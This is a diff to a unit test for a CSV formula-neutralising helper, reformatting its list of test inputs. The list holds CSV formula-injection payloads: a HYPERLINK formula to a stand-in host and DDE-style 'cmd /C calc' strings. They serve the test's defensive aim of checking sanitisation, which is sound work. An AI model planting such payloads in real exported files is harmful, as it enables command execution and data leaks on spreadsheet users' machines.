@@ -3,7 +3,16 @@ import { csvTextCell, neutraliseFormula, SAFE_CSV_FORMATTERS } from './csv-cells
 
 describe('CSV cells a spreadsheet opens as text', () => {
   it('put a quote before text that starts with =, +, -, @, a tab or a carriage return', () => {
-    for (const payload of ['=HYPERLINK("http://evil.example/?x","open")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '\t=1+1', '\r=1+1', '-', '+']) {
+    for (const payload of [
+      '=HYPERLINK("http://evil.example/?x","open")',
+      "+1+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      '\t=1+1',
+      '\r=1+1',
+      '-',
+      '+',
+    ]) {
       expect(neutraliseFormula(payload)).toBe(`'${payload}`);
     }
   });
